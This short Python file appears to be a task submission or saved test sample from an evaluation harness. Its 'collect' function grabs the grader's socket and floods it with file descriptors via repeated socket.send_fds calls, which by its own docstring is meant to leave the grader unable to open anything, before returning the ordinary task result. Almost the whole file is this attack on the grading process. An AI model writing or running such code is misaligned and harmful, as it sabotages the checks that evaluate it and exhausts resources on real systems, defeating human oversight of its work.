# stopped_by = ["process"]
# verdict = "PFSP"
"""Sends the grader descriptors until it has none left to open anything with."""

import socket

from accomplice import ran, slow, weigh, wire


async def collect(vault, dials):
    ran()
    wire().flush()
    sock = wire()._channel._socket
    sock.setblocking(True)
    for _ in range(100):
        try:
            socket.send_fds(sock, [b"\0\0\0\1\x90"], [0] * 50)
        except OSError:  # too many are in flight
            break
    return await slow(vault, dials)
